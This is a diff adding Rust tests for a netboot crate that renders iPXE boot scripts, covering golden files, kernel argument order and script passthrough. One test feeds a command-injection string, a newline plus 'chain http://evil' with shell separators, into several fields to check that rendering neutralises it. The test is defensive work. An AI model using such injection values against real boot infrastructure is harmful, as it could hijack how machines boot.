@@ -1,0 +1,102 @@
+//! Goldens: `UPDATE=1 cargo test -p netboot` writes them anew.
+
+use std::path::Path;
+
+use super::{autoexec, render};
+use crate::{AgentBoot, Boot, Plan};
+
+fn plan(boot: Boot) -> Plan {
+    let mac = "52:54:00:77:00:01".parse().unwrap();
+    Plan { mac, hardware: "default/nuc-1".to_owned(), boot }
+}
+
+fn agent() -> AgentBoot {
+    AgentBoot {
+        base_url: "http://10.77.0.1:7080/agent".to_owned(),
+        kernel: "vmlinuz-x86_64".to_owned(),
+        initrd: "initramfs-x86_64".to_owned(),
+        facility: "onprem".to_owned(),
+        syslog_host: Some("10.77.0.1".to_owned()),
+        grpc_authority: "10.77.0.1:42113".to_owned(),
+        worker_id: "52:54:00:77:00:01".to_owned(),
+        consoles: vec!["tty0".to_owned(), "ttyS0,115200".to_owned()],
+        args: vec!["tinbox.token=00ff".to_owned()],
+        ..AgentBoot::default()
+    }
+}
+
+#[track_caller]
+fn golden(name: &str, text: &str) {
+    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("goldens").join(name);
+    if std::env::var_os("UPDATE").is_some() {
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(&path, text).unwrap();
+    }
+    let wanted = std::fs::read_to_string(&path).unwrap_or_default();
+    assert_eq!(text, wanted, "{} differs; UPDATE=1 writes it anew", path.display());
+}
+
+#[test]
+fn scripts_are_as_recorded() {
+    golden("agent.ipxe", &render(&plan(Boot::Agent(agent()))));
+    golden("local-disk.ipxe", &render(&plan(Boot::LocalDisk)));
+    let url = "http://boot.example/menu.ipxe".to_owned();
+    golden("chain.ipxe", &render(&plan(Boot::Chain { url })));
+    golden("autoexec.ipxe", &autoexec("http://10.77.0.1:7080", None));
+    let mac = Some("52:54:00:77:00:01".parse().unwrap());
+    golden("autoexec-known.ipxe", &autoexec("http://10.77.0.1:7080", mac));
+}
+
+#[test]
+fn arguments_stand_in_the_order_that_smee_has() {
+    let boot = AgentBoot { vlan_id: Some("7".to_owned()), tls: true, ..agent() };
+    let line = super::command_line(plan(Boot::LocalDisk).mac, &boot);
+    let names: Vec<&str> = line.iter().map(|arg| arg.split('=').next().unwrap()).collect();
+    assert_eq!(
+        names,
+        [
+            "vlan_id",
+            "facility",
+            "syslog_host",
+            "grpc_authority",
+            "tinkerbell_tls",
+            "tinkerbell_insecure_tls",
+            "worker_id",
+            "hw_addr",
+            "initrd",
+            "console",
+            "console",
+            "tinbox.token"
+        ]
+    );
+    assert!(line.contains(&"tinkerbell_tls=true".to_owned()));
+}
+
+#[test]
+fn an_operators_script_is_sent_as_written() {
+    let contents = "#!ipxe\nshell\n".to_owned();
+    assert_eq!(render(&plan(Boot::Script { contents: contents.clone() })), contents);
+    assert_eq!(render(&plan(Boot::Script { contents: "shell\n".to_owned() })), contents);
+}
+
+#[test]
+fn no_field_can_add_a_line_or_a_command() {
+    let evil = "x\nchain http://evil && y || z ; shell";
+    let boot = AgentBoot {
+        base_url: evil.to_owned(),
+        kernel: evil.to_owned(),
+        worker_id: evil.to_owned(),
+        args: vec![evil.to_owned(), "\n".to_owned(), "a b".to_owned()],
+        ..agent()
+    };
+    let usual = render(&plan(Boot::Agent(agent())));
+    let text = render(&plan(Boot::Agent(boot)));
+    assert_eq!(text.lines().count(), usual.lines().count());
+    let kernel = text.lines().find(|line| line.starts_with("kernel ")).unwrap();
+    let ends = ["&&", "||", ";"];
+    let commands = kernel.split(' ').filter(|word| ends.contains(word)).count();
+    assert_eq!(commands, 2, "{kernel}");
+    assert!(kernel.contains(" x chain http://evil y z shell a b "), "{kernel}");
+    let url = "http://a/\nshell".to_owned();
+    assert_eq!(render(&plan(Boot::Chain { url })).lines().count(), 4);
+}
